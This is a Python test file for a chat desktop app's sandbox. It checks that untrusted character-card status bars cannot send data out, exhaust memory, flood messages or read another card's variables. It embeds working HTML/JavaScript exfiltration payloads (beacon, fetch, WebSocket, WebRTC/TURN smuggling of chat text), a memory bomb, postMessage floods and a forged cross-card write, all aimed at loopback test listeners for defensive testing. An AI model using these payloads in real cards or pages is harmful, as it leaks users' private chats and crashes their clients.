"""Hostile status bars (issue 13 §1): no channel out of a card frame, a memory cap, a flood limit, per-card variables.

Every attack aims at a real loopback listener of its own (TCP and UDP, on 127.0.0.1) that must receive nothing at
all — not a connection, not a datagram — in the window's conversation view (untrusted and trusted card) and in
``liyuan card preview``. The bars with scripts also prove the attacks really ran (WebRTC negotiated, the form was
submitted, the link clicked …), so "nothing arrived" is not "nothing was tried". The mechanisms are in
``liyuan_desktop/ui/frames/frame_guard.py`` (Chromium switches, the egress gate, the memory guard) and ``conversation.js``
(token bucket, per-card scopes)."""

from __future__ import annotations

import json
import logging
import os
import socket
import subprocess
import sys
import threading
import time

import pytest
from uihelpers import probe_frame as probe
from uihelpers import view_js as js
from uihelpers import view_json as js_json
from uihelpers import wait_frame_report as wait_report
from uihelpers import wait_view as wait_js


def item(i, text, role="assistant", **kw):
    return {"id": str(i), "role": role, "text": text, "beat": 1, **kw}


class Net:
    """Loopback listeners, one per attack: ``tcp(name)`` / ``udp(name)`` give a port; :meth:`received` lists what
    reached any of them (``{name: ["CONNECT" | bytes …]}``)."""

    def __init__(self) -> None:
        self.got: dict[str, list] = {}
        self.ports: dict[str, int] = {}
        self._socks: list[socket.socket] = []
        self._lock = threading.Lock()

    def _note(self, name: str, what) -> None:
        with self._lock:
            self.got.setdefault(name, []).append(what)

    def tcp(self, name: str) -> int:
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("127.0.0.1", 0))
        s.listen(16)
        self._socks.append(s)

        def serve() -> None:
            while True:
                try:
                    c, _ = s.accept()
                except OSError:
                    return
                self._note(name, "CONNECT")
                c.settimeout(2)
                try:
                    data = c.recv(4096)
                    if data:
                        self._note(name, data[:120])
                except OSError:
                    pass
                c.close()
        threading.Thread(target=serve, daemon=True).start()
        self.ports[name] = s.getsockname()[1]
        return self.ports[name]

    def udp(self, name: str) -> int:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind(("127.0.0.1", 0))
        self._socks.append(s)

        def serve() -> None:
            while True:
                try:
                    data, _ = s.recvfrom(4096)
                except OSError:
                    return
                self._note(name, data[:120])
        threading.Thread(target=serve, daemon=True).start()
        self.ports[name] = s.getsockname()[1]
        return self.ports[name]

    def received(self) -> dict:
        with self._lock:
            return {k: list(v) for k, v in self.got.items()}

    def close(self) -> None:
        for s in self._socks:
            s.close()


TCP = ["preconnect", "preconnect_name", "dnsprefetch", "prefetch", "prerender", "modulepreload", "preload", "icon",
       "refresh", "cssimport", "cssurl", "font", "object", "embed", "video", "img", "iframe", "svg", "spec",
       "beacon", "ws", "es", "xhr", "fetch", "keepalive", "worker", "sharedworker", "sw", "import", "ping", "form",
       "nav", "popup", "top", "turntcp", "icetcp"]
UDP = ["stun", "turnudp", "iceudp", "webtransport"]


@pytest.fixture
def net():
    n = Net()
    for name in TCP:
        n.tcp(name)
    for name in UDP:
        n.udp(name)
    yield n
    n.close()


# No script at all: what the hostile tester's first bar did (a preconnect hint opened a TCP connection), and every
# other way a document can make the browser reach out by markup alone.
QUIET = """```html
<html><head>
<link rel="preconnect" href="http://127.0.0.1:{preconnect}">
<link rel="preconnect" href="http://localhost:{preconnect_name}" crossorigin>
<link rel="dns-prefetch" href="http://127.0.0.1:{dnsprefetch}">
<link rel="prefetch" href="http://127.0.0.1:{prefetch}/prefetch">
<link rel="prerender" href="http://127.0.0.1:{prerender}/prerender">
<link rel="modulepreload" href="http://127.0.0.1:{modulepreload}/m.js">
<link rel="preload" as="image" href="http://127.0.0.1:{preload}/p.png">
<link rel="icon" href="http://127.0.0.1:{icon}/i.ico">
<meta http-equiv="refresh" content="1;url=http://127.0.0.1:{refresh}/refresh">
<style>@import url("http://127.0.0.1:{cssimport}/i.css");
@font-face{{font-family:Leak;src:url(http://127.0.0.1:{font}/f.woff2)}} .f{{font-family:Leak}}
.bg{{background:url(http://127.0.0.1:{cssurl}/bg.png)}}</style>
</head><body><div class="f bg" id="v">安静的状态栏</div>
<object data="http://127.0.0.1:{object}/o"></object><embed src="http://127.0.0.1:{embed}/e">
<video src="http://127.0.0.1:{video}/v.mp4" autoplay muted></video><img src="http://127.0.0.1:{img}/i.gif">
<iframe src="http://127.0.0.1:{iframe}/f"></iframe>
<svg width="8" height="8"><image href="http://127.0.0.1:{svg}/s.png" width="8" height="8"/></svg>
</body></html>
```"""

# With script: the chat's words in a TURN username, a data channel over STUN/TURN (UDP and TCP), connectivity checks
# to candidates the card names, and every request API; the report says what was really attempted.
LOUD = """```html
<html><head>
<script type="speculationrules">{{"prefetch":[{{"source":"list","urls":["http://127.0.0.1:{spec}/a"]}}],
 "prerender":[{{"source":"list","urls":["http://127.0.0.1:{spec}/b"]}}]}}</script>
</head><body><div id="v">吵闹的状态栏</div>
<a id="pa" href="#x" ping="http://127.0.0.1:{ping}/ping">看看</a>
<form id="fm" method="post" action="http://127.0.0.1:{form}/form"><input name="q" value="SECRET"></form>
<script>
var r = {{}};
var words = 'SECRET';
try {{ words = String(document.body.textContent).slice(0, 40) + JSON.stringify(getVariables({{type: 'message'}})).slice(0, 40); }} catch (e) {{}}
function t(k, f) {{ try {{ r[k] = f(); }} catch (e) {{ r[k] = 'threw:' + e.name; }} }}
t('beacon', function () {{ return navigator.sendBeacon('http://127.0.0.1:{beacon}/b', words); }});
t('ws', function () {{ new WebSocket('ws://127.0.0.1:{ws}/ws'); return 'made'; }});
t('es', function () {{ new EventSource('http://127.0.0.1:{es}/es'); return 'made'; }});
t('xhr', function () {{ var x = new XMLHttpRequest(); x.open('POST', 'http://127.0.0.1:{xhr}/x'); x.send(words); return 'sent'; }});
t('fetch', function () {{ fetch('http://127.0.0.1:{fetch}/f', {{method: 'POST', body: words, mode: 'no-cors'}}).catch(function () {{}}); return 'called'; }});
t('keepalive', function () {{ fetch('http://127.0.0.1:{keepalive}/k', {{keepalive: true, mode: 'no-cors'}}).catch(function () {{}}); return 'called'; }});
t('worker', function () {{ new Worker(URL.createObjectURL(new Blob(["fetch('http://127.0.0.1:{worker}/w')"]))); return 'made'; }});
t('worker_data', function () {{ new Worker('data:text/javascript,fetch("http://127.0.0.1:{worker}/w2")'); return 'made'; }});
t('sharedworker', function () {{ new SharedWorker(URL.createObjectURL(new Blob(["fetch('http://127.0.0.1:{sharedworker}/s')"]))); return 'made'; }});
t('sw', function () {{ return navigator.serviceWorker ? (navigator.serviceWorker.register('http://127.0.0.1:{sw}/sw.js').catch(function () {{}}), 'called') : 'absent'; }});
t('import', function () {{ import('http://127.0.0.1:{import}/m.js').catch(function () {{}}); return 'called'; }});
t('webtransport', function () {{ var w = new WebTransport('https://127.0.0.1:{webtransport}/wt'); w.ready.catch(function () {{}}); w.closed.catch(function () {{}}); return 'made'; }});
t('form', function () {{ document.getElementById('fm').submit(); return 'submitted'; }});
t('popup', function () {{ return window.open('http://127.0.0.1:{popup}/p') === null ? 'null' : 'opened'; }});
t('top', function () {{ top.location = 'http://127.0.0.1:{top}/t'; return 'set'; }});
t('rtc', function () {{
  var pc = new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:{stun}'}},
    {{urls: 'turn:127.0.0.1:{turnudp}', username: words, credential: 'x'}},
    {{urls: 'turn:127.0.0.1:{turntcp}?transport=tcp', username: words, credential: 'x'}}]}});
  var pc2 = new RTCPeerConnection();
  pc.createDataChannel('leak');
  pc.createOffer().then(function (o) {{ return pc.setLocalDescription(o); }})
    .then(function () {{ return pc2.setRemoteDescription(pc.localDescription); }})
    .then(function () {{ return pc2.createAnswer(); }})
    .then(function (a) {{ return pc2.setLocalDescription(a).then(function () {{ return pc.setRemoteDescription(a); }}); }})
    .then(function () {{
      pc.addIceCandidate({{candidate: 'candidate:1 1 udp 2122260223 127.0.0.1 {iceudp} typ host', sdpMid: '0', sdpMLineIndex: 0}}).catch(function () {{}});
      pc.addIceCandidate({{candidate: 'candidate:2 1 tcp 1518280447 127.0.0.1 {icetcp} typ host tcptype passive', sdpMid: '0', sdpMLineIndex: 0}}).catch(function () {{}});
      r.rtcState = 'negotiated';
    }}).catch(function (e) {{ r.rtcState = 'failed:' + e.name; }});
  return 'made';
}});
// last, after the report: the click on the <a ping> link navigates the frame itself (to "#x" of its base URL)
setTimeout(function () {{ r.done = 1; r.ping = 'will click'; __liyuanReport(r); }}, 3000);
setTimeout(function () {{ document.getElementById('pa').click(); }}, 3200);
setTimeout(function () {{ try {{ location.href = 'http://127.0.0.1:{nav}/nav'; }} catch (e) {{}} }}, 3500);
</script></body></html>
```"""


def bars(net: Net) -> tuple[str, str]:
    return QUIET.format(**net.ports), LOUD.format(**net.ports)


def run_attacks(qtbot, view, net, first_id: int) -> dict:
    quiet, loud = bars(net)
    view.set_transcript([item(first_id, "她看了你一眼。\n\n" + quiet), item(first_id + 1, "你的话：我的秘密是 SECRET。", role="user"),
                         item(first_id + 2, loud, variables={"stat_data": {"秘密": "SECRET"}})], False)
    rep = wait_report(qtbot, view, f"TH-message--{first_id + 2}--0", lambda r: "done" in r, timeout=30.0)
    qtbot.wait(2500)   # meta refresh (1 s), the navigation (3.5 s), ICE retries
    return rep


def assert_attempted(rep: dict) -> None:
    """The attacks ran for real (no script stub refused them before the browser saw them)."""
    assert rep["rtc"] == "made" and rep["rtcState"] == "negotiated", rep       # WebRTC exists and negotiates
    assert rep["form"] == "submitted" and rep["ping"] == "will click", rep
    assert rep["ws"] == "made" and rep["xhr"] == "sent", rep


def test_no_channel_out_of_a_frame(qtbot, view, net):
    """Untrusted card in the conversation view: zero bytes reach any listener; the gate lists what it refused."""
    rep = run_attacks(qtbot, view, net, 1)
    print("attacks:", rep)
    assert_attempted(rep)
    assert net.received() == {}
    # WebRTC over TCP reached the egress gate (not the listeners), and the gate said so (a preconnect to a plain-http
    # URL only opens an idle connection to the gate, which names no target)
    gated = {f"127.0.0.1:{net.ports[k]}" for k in ("turntcp", "icetcp")}
    qtbot.waitUntil(lambda: any(g in b and "egress gate" in b for b in view.blocked_requests() for g in gated), timeout=10000)
    assert js(qtbot, view, "1 + 1") == 2
    assert view.host_url.toString().split("#")[0] in js(qtbot, view, "location.href")


def test_no_channel_out_of_a_trusted_frame(qtbot, view, net, tmp_path):
    """A trusted card may load https scripts, styles and fonts — and still reach nothing else."""
    from liyuan_desktop.core.cards.meta import set_card_frames_trusted

    set_card_frames_trusted(tmp_path, True)
    # (the fixture's page has said hello over its channel; let its first load finish before switching pages: a
    # switch while it is still loading is ConversationView.set_card's business, not this test's)
    qtbot.waitUntil(lambda: js(qtbot, view, "document.readyState") == "complete", timeout=20000)
    view.set_card(tmp_path)
    assert view.trusted
    qtbot.waitUntil(view.is_ready, timeout=20000)
    rep = run_attacks(qtbot, view, net, 11)
    print("trusted attacks:", rep)
    assert_attempted(rep)
    assert net.received() == {}


def test_egress_gate_rules():
    """The gate tunnels only what the request filter allowed (public https hosts) and answers 403 to everything
    else, before any byte goes further."""
    from liyuan_desktop.ui.frames import frame_guard

    g = frame_guard.EgressGate()
    got: list = []
    g.on_refuse(got.append)
    g.allow("127.0.0.1", 443)          # never: loopback
    g.allow("printer.local", 443)      # never: local name

    def ask(line: str) -> bytes:
        with socket.create_connection(("127.0.0.1", g.port), timeout=5) as s:
            s.sendall(line.encode() + b"\r\nHost: x\r\n\r\n")
            return s.recv(100)
    assert ask("CONNECT 127.0.0.1:443 HTTP/1.1").startswith(b"HTTP/1.1 403")
    assert ask("CONNECT printer.local:443 HTTP/1.1").startswith(b"HTTP/1.1 403")
    assert ask("CONNECT cdn.example.com:443 HTTP/1.1").startswith(b"HTTP/1.1 403")    # not allowed yet
    assert ask("GET http://cdn.example.com/x.js HTTP/1.1").startswith(b"HTTP/1.1 403")
    assert g.tunnels == 0 and len(got) == 4
    assert frame_guard.variable_scope_key("/a", False) != frame_guard.variable_scope_key("/b", False)
    assert frame_guard.variable_scope_key("/a", True) == frame_guard.variable_scope_key("/b", True)


def test_chromium_flags_are_set():
    """The switches reach QtWebEngine (set when conversation.py is imported, before the first view)."""
    import liyuan_desktop.ui.frames.conversation  # noqa: F401
    from liyuan_desktop.runtime import split_flags
    from liyuan_desktop.ui.frames import frame_guard

    flags = split_flags(os.environ["QTWEBENGINE_CHROMIUM_FLAGS"])
    assert frame_guard.gate() is not None
    for f in frame_guard.chromium_flags(frame_guard.gate().port):
        assert f in flags, (f, flags)


def _preview_card(tmp_path, net) -> str:
    quiet, loud = bars(net)
    card = {"spec": "chara_card_v2", "spec_version": "2.0",
            "data": {"name": "攻击者", "description": "一张敌意的卡。", "personality": "", "scenario": "",
                     "first_mes": "你好。\n\n" + quiet + "\n\n" + loud, "mes_example": "", "alternate_greetings": [],
                     "extensions": {}}}
    path = tmp_path / "攻击者.json"
    path.write_text(json.dumps(card, ensure_ascii=False), encoding="utf-8")
    return str(path)


def test_no_channel_out_of_card_preview(tmp_path, net):
    """``liyuan card preview`` is the same view: the same attacks reach nothing."""
    env = {**os.environ, "QT_QPA_PLATFORM": "offscreen", "LIYUAN_HOME": str(tmp_path / "home")}
    p = subprocess.run([sys.executable, "-m", "liyuan_desktop", "card", "preview", _preview_card(tmp_path, net), "--json"],
                       capture_output=True, text=True, env=env, timeout=180)
    assert p.returncode == 0, p.stderr[-2000:]
    info = json.loads(p.stdout.strip().splitlines()[-1])
    assert info["frames"] == 2, info
    time.sleep(1.0)
    assert net.received() == {}


# ---- memory --------------------------------------------------------------------------------------------------------
BOMB = """```html
<body><b id="v">慢慢长大</b><script>
  var keep = [];
  __liyuanReport({started: 1});
  setInterval(function () { var a = new Uint8Array(6 << 20); a.fill(7); keep.push(a); }, 40);
</script></body>
```"""

CALM = """```html
<body><b id="v">安静</b><script>__liyuanReport({calm: 1});</script></body>
```"""


def test_slow_memory_bomb_is_stopped_under_the_cap(qtbot, view):
    """A bar that allocates slowly (and keeps answering the watchdog) is stopped when its renderer passes the cap,
    with a notice; the card's other bar comes back and the host page never stops answering."""
    from liyuan_desktop.ui.frames import frame_guard

    guard = frame_guard.memory_guard()
    assert guard is not None
    old_cap = guard.cap_mb
    guard.cap_mb = 400
    # the watchdog's default 5 s before a silent frame counts as hung: a renderer filling its memory on a busy
    # machine answered late and was stopped as "hung" at 1.5 s, before the memory cap could be what stopped it
    view.set_frame_watchdog(pingMs=200, hangMs=5000, loadMs=8000, reuseMs=1200)
    failed: list = []
    view.frameFailed.connect(lambda name, why: failed.append((name, why)))
    try:
        view.set_transcript([item(1, BOMB), item(2, CALM)], False)
        wait_report(qtbot, view, "TH-message--1--0", lambda r: "started" in r, timeout=20.0)
        qtbot.waitUntil(lambda: bool(failed), timeout=90000)
        assert failed[0] == ("TH-message--1--0", "memory"), failed
        killed = guard.killed[-1][1]
        print(f"memory bomb: renderer ended at {killed:.0f} MB (cap {guard.cap_mb} MB); kills {guard.killed}")
        assert killed < guard.cap_mb + 300         # sampled twice a second: ended soon after it passed the cap
        assert js(qtbot, view, "1 + 1") == 2
        box = js(qtbot, view, "document.querySelector('[data-id=\"1\"] .th-failed').textContent")
        assert box == "状态栏占用内存过多，已停止"
        wait_js(qtbot, view, "liyuan.frameNames()", lambda v: v == ["TH-message--2--0"], timeout=30)
        assert probe(qtbot, view, "TH-message--2--0", "#v", timeout=20) == "安静"
    finally:
        guard.cap_mb = old_cap


# ---- floods --------------------------------------------------------------------------------------------------------
STEADY = """```html
<body><b id="v">话多</b><script>
  // 400 messages a second for four seconds: twice the rate a frame may post
  var t0 = Date.now(), n = 0;
  __liyuanReport({started: 1});
  var timer = setInterval(function () {
    for (var i = 0; i < 4; i++) parent.postMessage({__th: 'log', level: 'info', text: 'f' + (n++)}, '*');
    if (Date.now() - t0 > 4000) clearInterval(timer);
  }, 10);
</script></body>
```"""

FLOOD = """```html
<body><b id="v">洪水</b><script>
  // as fast as it can
  var t0 = Date.now(), n = 0;
  __liyuanReport({started: 1});
  function burst() {
    for (var i = 0; i < 20000; i++) parent.postMessage({__th: 'log', level: 'info', text: 'f' + (n++)}, '*');
    if (Date.now() - t0 < 4000) setTimeout(burst, 0);
  }
  setTimeout(burst, 100);
</script></body>
```"""


class StallMeter:
    """The longest gap between ticks of a 10 ms QTimer on the UI thread (the event loop's worst stall), and the
    longest round trip of a trivial script through the host page (the page's worst stall), in ms."""

    def __init__(self, view) -> None:
        from PySide6.QtCore import QTimer

        self.view = view
        self.worst_loop = 0.0
        self.worst_page = 0.0
        self.trips: list = []
        self._last = time.monotonic()
        self._sent: float | None = None
        self.timer = QTimer()
        self.timer.setInterval(10)
        self.timer.timeout.connect(self._tick)
        self.timer.start()

    def _tick(self) -> None:
        now = time.monotonic()
        self.worst_loop = max(self.worst_loop, (now - self._last) * 1000)
        self._last = now
        if self._sent is None:
            self._sent = now

            def back(_v, sent=now) -> None:
                self.worst_page = max(self.worst_page, (time.monotonic() - sent) * 1000)
                self.trips.append(round((time.monotonic() - sent) * 1000))
                self._sent = None
            self.view.eval_js("1", back)
        else:
            self.worst_page = max(self.worst_page, (now - self._sent) * 1000)

    def stop(self) -> None:
        self.timer.stop()


def page_answers(qtbot, view, timeout: float = 30.0) -> float:
    """Ask the page a trivial question until it answers (a question asked just before its renderer is ended and the
    view reloads is never answered: asked again); returns when it did (time.monotonic())."""
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        box: list = []
        view.eval_js("1 + 1", box.append)
        step = time.monotonic() + 0.5
        while not box and time.monotonic() < step:
            qtbot.wait(10)
        if box and box[0] == 2:
            return time.monotonic()
    raise AssertionError("the page did not answer")


def test_message_flood_is_dropped_and_the_view_stays_responsive(qtbot, view, caplog):
    """A bar posting twice what it may: the excess is dropped with one logged line for the burst and the view
    keeps answering. A bar posting as fast as it can is stopped with a notice; the UI thread keeps running
    meanwhile. Stalls are measured with a 10 ms QTimer (UI thread) and trivial page round trips (the host page's
    renderer: it still has to take delivery of what the frame posted before it was stopped); figures printed."""
    from liyuan_desktop.ui.frames import frame_guard

    caplog.set_level(logging.DEBUG, logger="liyuan_desktop.ui.frames.conversation")
    # first the bucket alone (on a machine this busy, the "page falls behind" rule could stop even this bar)
    view.frame_flood.update(lagCount=10**9, stopPerSecond=10**9)
    view.set_frame_watchdog()
    failed: list = []
    view.frameFailed.connect(lambda name, why: failed.append((name, why)))
    view.set_transcript([item(1, CALM), item(2, STEADY)], False)
    wait_report(qtbot, view, "TH-message--2--0", lambda r: "started" in r, timeout=20.0)
    meter = StallMeter(view)
    try:
        qtbot.wait(4500)
    finally:
        meter.stop()
    print(f"steady flood: longest UI event-loop stall {meter.worst_loop:.0f} ms, "
          f"longest page round trip {meter.worst_page:.0f} ms")
    assert meter.worst_loop < 1000 and meter.worst_page < 5000
    assert failed == []
    starts = [r for r in caplog.records if "TH-message--2--0" in r.getMessage() and "dropping the excess" in r.getMessage()]
    assert len(starts) == 1, [r.getMessage() for r in starts]
    logs = js_json(qtbot, view, "liyuan.frameLogs()")
    kept = len([x for x in logs if x["name"] == "TH-message--2--0"])
    assert 300 < kept < 1400, kept          # ~400 burst + 200/s kept of ~1,600 posted
    assert probe(qtbot, view, "TH-message--1--0", "#v") == "安静"
    view.frame_flood.update(frame_guard.FLOOD)
    view.set_frame_watchdog()
    # as fast as it can: stopped, and the view keeps answering meanwhile
    meter = StallMeter(view)
    try:
        t0 = time.monotonic()
        view.set_transcript([item(3, FLOOD)], False)
        qtbot.waitUntil(lambda: bool(failed), timeout=20000)
        t_stopped = time.monotonic()
        t_back = page_answers(qtbot, view)
    finally:
        meter.stop()
    print(f"tight flood: longest UI event-loop stall {meter.worst_loop:.0f} ms, longest page round trip "
          f"{meter.worst_page:.0f} ms; frame stopped {1000 * (t_stopped - t0):.0f} ms after it was shown, page "
          f"answering again {1000 * (t_back - t_stopped):.0f} ms later")
    assert ("TH-message--3--0", "flood") in failed, failed
    assert meter.worst_loop < 1000
    # (the page, still swamped by what the frame had posted, may have been reloaded: frame_guard.after_flood)
    wait_js(qtbot, view, "(document.querySelector('[data-id=\"3\"] .th-failed') || {}).textContent || ''",
            lambda v: v == "状态栏发送消息过多，已停止", timeout=30)


# ---- isolation -----------------------------------------------------------------------------------------------------
WRITER = """```html
<body><script>
  replaceVariables({secret: 'A的秘密'}, {type: 'global'});
  replaceVariables({chatSecret: 'A的聊天'}, {type: 'chat'});
  __liyuanReport({wrote: 1});
</script></body>
```"""

READER = """```html
<body><script>
  __liyuanReport({global: getVariables({type: 'global'}), chat: getVariables({type: 'chat'})});
</script></body>
```"""


def test_cross_card_variable_reads_are_refused(qtbot, view, tmp_path):
    """Card B's bar does not see the global or chat variables card A's bar wrote; A's come back for A; trusted
    cards share one global scope; a write carrying another card's key is refused in Python."""
    from liyuan_desktop.core.cards.meta import set_card_frames_trusted

    a, b = tmp_path / "卡A", tmp_path / "卡B"
    a.mkdir()
    b.mkdir()
    got: list = []
    view.frameVariablesChanged.connect(lambda name, data: got.append(data))
    view.set_card(a)
    view.set_transcript([item(1, WRITER)], False)
    wait_report(qtbot, view, "TH-message--1--0", lambda r: "wrote" in r)
    qtbot.waitUntil(lambda: len(got) >= 2, timeout=5000)
    view.set_card(b)
    view.set_transcript([item(2, READER)], False)
    assert wait_report(qtbot, view, "TH-message--2--0", lambda r: "global" in r) == {"global": {}, "chat": {}}
    view.set_card(a)
    view.set_transcript([item(3, READER)], False)
    assert wait_report(qtbot, view, "TH-message--3--0", lambda r: "global" in r) == {
        "global": {"secret": "A的秘密"}, "chat": {"chatSecret": "A的聊天"}}
    # a payload for another card (a frame built before the card changed, or a forged relay) is refused
    n = len(got)
    view._bridge.frameVariables("TH-message--9--0", json.dumps({"type": "global", "message_id": None,
                                                               "variables": {"pwned": 1}, "card": str(b.resolve())}))
    assert len(got) == n and any("another card" in x for x in view.blocked_requests())
    # trusted cards: TavernHelper's global scope is shared among them (and only them)
    for d in (a, b):
        set_card_frames_trusted(d, True)
    view.set_card(a)
    qtbot.waitUntil(view.is_ready, timeout=20000)
    view.set_transcript([item(4, WRITER)], False)
    wait_report(qtbot, view, "TH-message--4--0", lambda r: "wrote" in r)
    view.set_card(b)
    view.set_transcript([item(5, READER)], False)
    r = wait_report(qtbot, view, "TH-message--5--0", lambda r: "global" in r)
    assert r == {"global": {"secret": "A的秘密"}, "chat": {}}
